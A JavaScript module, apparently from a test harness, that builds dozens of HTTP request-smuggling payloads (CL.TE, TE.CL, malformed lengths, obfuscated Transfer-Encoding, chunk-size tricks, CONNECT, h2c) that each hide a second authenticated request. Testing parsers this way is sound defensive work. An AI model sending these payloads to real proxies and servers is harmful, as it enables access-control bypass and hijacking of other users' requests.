// Requests of the known kinds that two programs may read in two ways. Each carries a whole second request, `/…/smuggled…`,
// with a good token: whoever sees it as one lets it through. `harmless`: there is one reading, and it is taken.
const second = ({ token, host, mark }) => `GET /plain/smuggled?${mark} HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${token}\r\n\r\n`;
const hex = (text) => text.length.toString(16);

/** A POST with these lines, then these bytes. */
const post = (c, lines, body, { version = '1.1', target = `/plain/first?${c.mark}`, host = `Host: ${c.host}\r\n` } = {}) =>
  `POST ${target} HTTP/${version}\r\n${host}Authorization: Bearer ${c.token}\r\n${lines}\r\n${body}`;
const ended = (c) => `0\r\n\r\n${second(c)}`;
const chunk = (text) => `${hex(text)}\r\n${text}\r\n`;

const coding = (line) => ({ bytes: (c) => post(c, `${line}\r\n`, ended(c)) });
const besides = (line) => ({ bytes: (c) => post(c, `Content-Length: ${second(c).length + 5}\r\n${line}\r\n`, ended(c)) });
const length = (lines) => ({ bytes: (c) => post(c, lines(second(c).length), second(c)) });
const closes = 'Connection: close\r\n';

export const ATTACKS = {
  'CL.TE': besides('Transfer-Encoding: chunked'),
  'TE.CL': { bytes: (c) => post(c, 'Transfer-Encoding: chunked\r\nContent-Length: 4\r\n', `${chunk(second(c))}0\r\n\r\n`) },
  'CL.TE, the length of nothing': { bytes: (c) => post(c, 'Content-Length: 0\r\nTransfer-Encoding: chunked\r\n', `${chunk('x')}${ended(c)}`) },
  'two lengths': length((n) => `Content-Length: 0\r\nContent-Length: ${n}\r\n`),
  'two equal lengths': length((n) => `Content-Length: ${n}\r\nContent-Length: ${n}\r\n`),
  'a list of lengths': length((n) => `Content-Length: 0, ${n}\r\n`),
  'a signed length': length(() => 'Content-Length: +0\r\n'),
  'a length in hexadecimal': length(() => 'Content-Length: 0x0\r\n'),
  'a length behind a space': length((n) => `Content-Length : ${n}\r\n`),
  'a length with a line feed in it': length((n) => `Content-Length: 0\nContent-Length: ${n}\r\n`),
  'a folded length': length((n) => `Content-Length:\r\n ${n}\r\n`),
  'xchunked': besides('Transfer-Encoding: xchunked'),
  'a space before the colon of Transfer-Encoding': besides('Transfer-Encoding : chunked'),
  'a tab before chunked': besides('Transfer-Encoding:\tchunked'),
  'a vertical tab before chunked': besides('Transfer-Encoding:\x0bchunked'),
  'a quoted coding': besides('Transfer-Encoding: "chunked"'),
  'identity, chunked': coding('Transfer-Encoding: identity, chunked'),
  'chunked, identity': coding('Transfer-Encoding: chunked, identity'),
  'chunked twice': coding('Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked'),
  'chunked with a parameter': coding('Transfer-Encoding: chunked;q=1'),
  'Transfer_Encoding': besides('Transfer_Encoding: chunked'),
  'obs-fold in Transfer-Encoding': besides('Transfer-Encoding:\r\n chunked'),
  'obs-fold in another field': { bytes: (c) => post(c, 'X-One: a\r\n b\r\nContent-Length: 0\r\n', second(c)) },
  'a bare line feed ends a field': besides('X-One: a\nTransfer-Encoding: chunked'),
  'a bare line feed ends the head': { bytes: (c) => `POST /plain/first?${c.mark} HTTP/1.1\nHost: ${c.host}\nAuthorization: Bearer ${c.token}\nContent-Length: 0\n\n${second(c)}` },
  'a bare carriage return in a field': besides('X-One: a\rTransfer-Encoding: chunked'),
  'NUL in a field': besides('X-One: a\0b\r\nTransfer-Encoding: chunked'),
  'HTTP/1.0, chunked': { bytes: (c) => post(c, 'Transfer-Encoding: chunked\r\nConnection: keep-alive\r\n', ended(c), { version: '1.0' }) },
  'two Hosts': { bytes: (c) => post(c, 'Content-Length: 0\r\n', '', { host: `Host: ${c.host}\r\nHost: elsewhere.example\r\n` }) },
  'no Host': { bytes: (c) => post(c, 'Content-Length: 0\r\n', '', { host: '' }) },
  'absolute-form with another host': { bytes: (c) => post(c, `Content-Length: 0\r\n${closes}`, '', { target: `http://elsewhere.example/plain/first?${c.mark}` }) },
  'a length that Connection names': { harmless: true, bytes: (c) => post(c, `Content-Length: ${second(c).length}\r\nConnection: close, content-length\r\n`, second(c)) },
  'a coding that Connection names': { harmless: true, bytes: (c) => post(c, 'Transfer-Encoding: chunked\r\nConnection: close, transfer-encoding\r\n', `${chunk(second(c))}0\r\n\r\n`) },
  'a request in a body': { harmless: true, bytes: (c) => post(c, `Content-Length: ${second(c).length}\r\n${closes}`, second(c)) },
  'a request in a chunk': { harmless: true, bytes: (c) => post(c, `Transfer-Encoding: chunked\r\n${closes}`, `${chunk(second(c))}0\r\n\r\n`) },
  'a request in the trailers': { bytes: (c) => post(c, 'Transfer-Encoding: chunked\r\n', `0\r\n${second(c)}`) },
  'a chunk extension with a line feed in it': { bytes: (c) => post(c, 'Transfer-Encoding: chunked\r\n', `2;\nxx\r\n${hex(second(c))}\r\n0\r\n\r\n${second(c)}`) },
  'a chunk that is longer than it says': { bytes: (c) => post(c, 'Transfer-Encoding: chunked\r\n', `1\r\nxx\r\n${ended(c)}`) },
  'a chunk size with a sign': { bytes: (c) => post(c, 'Transfer-Encoding: chunked\r\n', `+0\r\n\r\n${second(c)}`) },
  'a chunk size of more than 64 bits': { bytes: (c) => post(c, 'Transfer-Encoding: chunked\r\n', `10000000000000000\r\n\r\n${second(c)}`) },
  'a chunk size in another base': { bytes: (c) => post(c, 'Transfer-Encoding: chunked\r\n', `0x0\r\n\r\n${second(c)}`) },
  'a line feed ends a chunk': { bytes: (c) => post(c, 'Transfer-Encoding: chunked\r\n', `1\nx\n0\n\n${second(c)}`) },
  'the last chunk with a space': { bytes: (c) => post(c, 'Transfer-Encoding: chunked\r\n', `0 \r\n\r\n${second(c)}`) },
  'CONNECT': { bytes: (c) => `CONNECT ${c.host} HTTP/1.1\r\nHost: ${c.host}\r\n\r\n${second(c)}` },
  'Upgrade: h2c': { bytes: (c) => post(c, 'Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nConnection: Upgrade, HTTP2-Settings, close\r\nContent-Length: 0\r\n', ''), harmless: true },
};
